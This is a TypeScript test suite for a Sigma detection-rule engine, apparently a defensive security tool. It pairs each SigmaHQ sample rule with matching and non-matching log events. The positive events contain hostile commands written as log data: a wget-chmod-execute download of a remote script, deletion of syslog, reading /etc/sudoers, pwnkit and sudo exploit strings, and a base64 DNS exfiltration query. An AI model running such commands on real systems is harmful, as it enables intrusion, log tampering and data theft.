import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import type { NormalizedEvent } from '../../src/events/normalized-event.js';
import { compileSigma, type CompiledRule } from '../../src/detection/compile.js';
import { initialCorrelationState } from '../../src/detection/correlate.js';
import { createRuleSet } from '../../src/detection/engine.js';
import { parseSigmaText } from '../../src/detection/sigma-yaml.js';
import { fixturePath } from '../helpers/paths.js';
import { collector, journal, sigmaSample, syslog, zeek } from './make-event.js';

function compileFile(file: string): CompiledRule {
  const parsed = parseSigmaText(sigmaSample('rules', file));
  assert.ok(parsed.ok, parsed.ok ? '' : parsed.error);
  assert.equal(parsed.docs.length, 1);
  const compiled = compileSigma(parsed.docs[0]);
  assert.ok(compiled.ok, compiled.ok ? '' : compiled.error);
  assert.equal(compiled.rule.kind, 'detection');
  return compiled.rule as CompiledRule;
}

function fires(rule: CompiledRule, event: NormalizedEvent): boolean {
  const { matches } = createRuleSet([rule]).evaluate(initialCorrelationState(), [event]);
  return matches.some((m) => m.ruleId === rule.id);
}

const firewallAccept = journal('kernel', '[UFW ALLOW] IN=eth0 OUT= SRC=198.51.100.7 DST=10.0.0.5 PROTO=TCP SPT=51000 DPT=23', {
  category: 'network', class: 'firewall', activity: 'allow', outcome: 'success',
  sourceEndpoint: { ip: '198.51.100.7', port: 51000 }, destinationEndpoint: { ip: '10.0.0.5', port: 23 },
  fields: { action: 'accept', blocked: 'false', src_ip: '198.51.100.7', dst_ip: '10.0.0.5', src_port: '51000', dst_port: '23' },
});

/** One positive and one negative event per SigmaHQ sample rule, built with the normalizer conventions. */
const CASES: Record<string, { positive: NormalizedEvent[]; negative: NormalizedEvent[] }> = {
  'lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml': {
    positive: [journal('pkexec', 'alice: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=GCONV_PATH=./pwnkit.so:.]')],
    negative: [journal('pkexec', 'alice: The value for environment variable XAUTHORITY contains suspicious content [USER=root] [TTY=/dev/pts/3]')],
  },
  'lnx_clear_syslog.yml': {
    positive: [syslog('snoopy', '[uid:0 sid:812 tty:/dev/pts/0 cwd:/root filename:/usr/bin/rm]: rm -rf /var/log/syslog')],
    negative: [syslog('snoopy', '[uid:0 sid:812 tty:/dev/pts/0 cwd:/root filename:/usr/bin/rm]: rm -rf /var/log/syslog.2.gz')],
  },
  'lnx_cron_crontab_file_modification.yml': {
    positive: [journal('crontab', '(root) REPLACE (root)')],
    negative: [journal('crontab', '(root) LIST (root)'), journal('nginx', 'REPLACE')],
  },
  'lnx_privileged_user_creation.yml': {
    positive: [journal('useradd', 'new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash, from=/dev/pts/1')],
    negative: [journal('useradd', 'new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=/dev/pts/1')],
  },
  'lnx_shell_susp_commands.yml': {
    positive: [syslog('bash', 'cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh')],
    negative: [syslog('bash', 'wget https://example.org/release.tar.gz')],
  },
  'lnx_sshd_susp_ssh.yml': {
    positive: [journal('sshd-session', 'error: Corrupted MAC on input. [preauth]'), syslog('sshd', 'fatal: buffer_get_string: bad string')],
    negative: [journal('sshd', 'Accepted publickey for alice from 10.0.0.5 port 50022 ssh2'), journal('systemd', 'Corrupted MAC on input')],
  },
  'lnx_sudo_exploit_cve_2019_14287.yml': {
    positive: [journal('sudo', '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id', { fields: { user: 'alice', USER: '#-1', COMMAND: '/usr/bin/id' } })],
    negative: [journal('sudo', '   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id', { fields: { user: 'alice', USER: 'root', COMMAND: '/usr/bin/id' } })],
  },
  'lnx_syslog_security_tools_disabling_syslog.yml': {
    positive: [journal('systemd', 'Stopping firewalld - dynamic firewall daemon...')],
    negative: [journal('systemd', 'Started firewalld - dynamic firewall daemon.')],
  },
  'net_connection_lnx_back_connect_shell_dev.yml': {
    positive: [collector('network_connection', { Image: '/usr/bin/bash', DestinationIp: '203.0.113.9', DestinationPort: 4242 })],
    negative: [collector('network_connection', { Image: '/usr/bin/bash', DestinationIp: '127.0.0.1' }), collector('process_creation', { Image: '/usr/bin/bash', DestinationIp: '203.0.113.9' })],
  },
  'net_dns_susp_b64_queries.yml': {
    positive: [zeek('dns', { query: 'aGVsbG8gd29ybGQ==.exfil.example', qtype_name: 'A' })],
    negative: [zeek('dns', { query: 'www.example.org', qtype_name: 'A' }), zeek('http', { query: 'aGVsbG8gd29ybGQ==.exfil.example' })],
  },
  'net_firewall_cleartext_protocols.yml': {
    positive: [
      firewallAccept,
      zeek('conn', { 'id.orig_h': '10.0.0.5', 'id.resp_h': '198.51.100.1', 'id.resp_p': 21, conn_state: 'SF' }, {
        outcome: 'success', class: 'network_connection', destinationEndpoint: { ip: '198.51.100.1', port: 21 },
      }),
    ],
    negative: [
      { ...firewallAccept, attributes: { ...firewallAccept.attributes, action: 'block', blocked: 'true' } },
      zeek('conn', { 'id.resp_p': 21, conn_state: 'S0' }, { outcome: 'failure', destinationEndpoint: { ip: '198.51.100.1', port: 21 } }),
      zeek('conn', { 'id.resp_p': 443, conn_state: 'SF' }, { outcome: 'success', destinationEndpoint: { ip: '198.51.100.1', port: 443 } }),
    ],
  },
  'proc_creation_lnx_susp_process_reading_sudoers.yml': {
    positive: [collector('process_creation', { Image: '/usr/bin/cat', CommandLine: 'cat /etc/sudoers', User: 'alice' })],
    negative: [collector('process_creation', { Image: '/usr/bin/cat', CommandLine: 'cat /etc/hosts' })],
  },
  'zeek_default_cobalt_strike_certificate.yml': {
    positive: [zeek('x509', { 'certificate.serial': '8BB00EE' }), zeek('x509', { 'certificate.serial': '8bb00ee' })],
    negative: [zeek('x509', { 'certificate.serial': '08BB00EE' }), zeek('ssl', { 'certificate.serial': '8BB00EE' })],
  },
  'zeek_dns_susp_zbit_flag.yml': {
    positive: [zeek('dns', { Z: 1, query: 'update.example.com', qtype_name: 'A', answers: ['192.0.2.10'], 'id.resp_p': 53 })],
    negative: [
      zeek('dns', { Z: 0, query: 'update.example.com', qtype_name: 'A', 'id.resp_p': 53 }),
      zeek('dns', { Z: 1, query: 'printer.local', qtype_name: 'A', 'id.resp_p': 53 }),
      zeek('dns', { Z: 1, query: 'update.example.com', qtype_name: 'A', answers: ['odd\\x00'], 'id.resp_p': 53 }),
      zeek('dns', { Z: 1, query: 'host.example.com', qtype_name: 'A', 'id.resp_p': 137 }),
    ],
  },
  'zeek_dns_torproxy.yml': {
    positive: [zeek('dns', { query: 'duskgytldkxiuqc6.onion' }), zeek('dns', { query: 'X.ONION.TO' })],
    negative: [zeek('dns', { query: 'onion.example.com' })],
  },
  'zeek_http_webdav_put_request.yml': {
    positive: [zeek('http', { user_agent: 'Microsoft-WebDAV-MiniRedir/10.0.19041', method: 'PUT', 'id.resp_h': '203.0.113.10' })],
    negative: [
      zeek('http', { user_agent: 'Microsoft-WebDAV-MiniRedir/10.0.19041', method: 'PUT', 'id.resp_h': '172.20.1.1' }),
      zeek('http', { user_agent: 'Microsoft-WebDAV-MiniRedir/10.0.19041', method: 'GET', 'id.resp_h': '203.0.113.10' }),
    ],
  },
  'zeek_rdp_public_listener.yml': {
    positive: [zeek('rdp', { 'id.orig_h': '198.51.100.20', 'id.resp_h': '10.0.0.5' })],
    negative: [zeek('rdp', { 'id.orig_h': '192.168.1.5' }), zeek('rdp', { 'id.orig_h': 'fd12:3456::1' }), zeek('rdp', { 'id.orig_h': '::1' })],
  },
  'zeek_susp_kerberos_rc4.yml': {
    positive: [zeek('kerberos', { request_type: 'TGS', cipher: 'rc4-hmac', service: 'HTTP/web.corp.example' })],
    negative: [zeek('kerberos', { request_type: 'TGS', cipher: 'aes256-cts-hmac-sha1-96', service: 'HTTP/web' }), zeek('kerberos', { request_type: 'TGS', cipher: 'rc4-hmac', service: '$machine' })],
  },
};

describe('SigmaHQ sample rules', () => {
  const files = readdirSync(fixturePath('sigma', 'rules')).filter((f) => f.endsWith('.yml')).sort();

  it('has a positive and a negative case for every sample rule', () => {
    assert.deepEqual(Object.keys(CASES).sort(), files);
  });

  for (const file of files) {
    it(`${file} compiles, fires on its positive events and not on its negative ones`, () => {
      const rule = compileFile(file);
      const cases = CASES[file]!;
      for (const event of cases.positive) assert.equal(fires(rule, event), true, `expected a match on ${JSON.stringify(event.attributes)}`);
      for (const event of cases.negative) assert.equal(fires(rule, event), false, `expected no match on ${JSON.stringify(event.attributes)}`);
    });
  }

  it('keeps the author and level of a rule for the alert (DRL 1.1 credit)', () => {
    const rule = compileFile('lnx_sudo_exploit_cve_2019_14287.yml');
    assert.equal(rule.author, 'Florian Roth (Nextron Systems)');
    assert.equal(rule.level, 'critical');
    assert.equal(rule.severity, 10);
    assert.ok(rule.tags.includes('cve.2019-14287'));
    assert.deepEqual(rule.fields, ['USER']);
  });

  it('explains a match with the selections, field values and keywords', () => {
    const webdav = compileFile('zeek_http_webdav_put_request.yml');
    const detail = webdav.match(CASES['zeek_http_webdav_put_request.yml']!.positive[0]!);
    assert.deepEqual(detail?.selections, ['selection']);
    assert.deepEqual(detail?.fields.map((f) => [f.field, f.modifiers, f.value]), [
      ['user_agent', ['contains'], 'Microsoft-WebDAV-MiniRedir/10.0.19041'], ['method', [], 'PUT'],
    ]);
    const pwnkit = compileFile('lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml');
    const keywords = pwnkit.match(CASES['lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml']!.positive[0]!)?.keywords;
    assert.equal(keywords?.length, 3);
  });
});
